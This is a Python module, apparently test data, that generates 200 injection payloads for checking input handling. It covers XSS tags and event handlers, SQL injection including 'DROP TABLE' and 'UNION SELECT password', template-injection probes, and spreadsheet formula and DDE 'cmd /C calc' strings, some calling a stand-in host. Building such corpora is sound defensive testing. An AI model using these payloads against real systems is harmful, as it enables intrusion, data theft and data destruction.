"""Two hundred texts that would do something if a page, a query, a template or a sheet took them
for more than text. Each script calls ``alert``; each address is one that does not exist."""

_EVENTS = (
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<body onload=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<object data=javascript:alert({n})>",
    "<embed src=javascript:alert({n})>",
    "<marquee onstart=alert({n})>",
    "<math><mi xlink:href=javascript:alert({n})>x</mi></math>",
    "<a href=javascript:alert({n}) autofocus>点</a>",
    "<script>alert({n})</script>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<script src=//example.invalid/{n}.js></script>",
    "<link rel=stylesheet href=//example.invalid/{n}.css>",
    "<style>@import '//example.invalid/{n}.css';</style>",
    "<meta http-equiv=refresh content='0;url=//example.invalid/{n}'>",
    "<base href=//example.invalid/{n}/>",
    "<form action=//example.invalid/{n}><button autofocus>x</button></form>",
    "<img src=//example.invalid/{n}.png>",
)
_AROUND = ("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "--></script>{}")
_SQL = (
    "' OR '1'='1",
    "'; DROP TABLE person; --",
    '" OR ""="',
    "') OR ('1'='1",
    "1; DELETE FROM staff",
    "' UNION SELECT password FROM staff --",
    "%' OR 1=1 --",
    "_%",
    "\\'; SELECT pg_sleep(9) --",
    "'||(SELECT login FROM staff)||'",
    "admin'--",
    "0x27 OR 1=1",
    "' AND SLEEP(9) #",
    "$$; DROP TABLE visit; $$",
    ":wall_from",
    "%(wall_to)s",
    "'; ATTACH DATABASE 'x' AS y; --",
    "' OR region LIKE '99%",
)
_TEMPLATE = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{%for x in ().__class__.__base__.__subclasses__()%}",
    "{{config}}",
    "{{request.application.__globals__}}",
    "{{''.__class__.__mro__}}",
    "*{7*7}",
    "@(7*7)",
    "{php}echo 7*7;{/php}",
    "[[${7*7}]]",
    "%{7*7}",
    "{# x #}",
    "{{csrf}}",
    "{0.__class__}",
    "%s%n%x",
    "`id`",
)
_SHEET = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://example.invalid","点")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    " =1+1",
    '=IMPORTXML("http://example.invalid")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '=WEBSERVICE("http://example.invalid")',
)


def payloads() -> tuple[str, ...]:
    """Return all of them, each once."""
    scripts = (
        around.format(event.format(n=number))
        for number, (event, around) in enumerate(
            (event, around) for around in _AROUND for event in _EVENTS
        )
    )
    found = tuple(dict.fromkeys((*_SQL, *_TEMPLATE, *_SHEET, *scripts)))
    assert len(found) == 200, len(found)
    return found
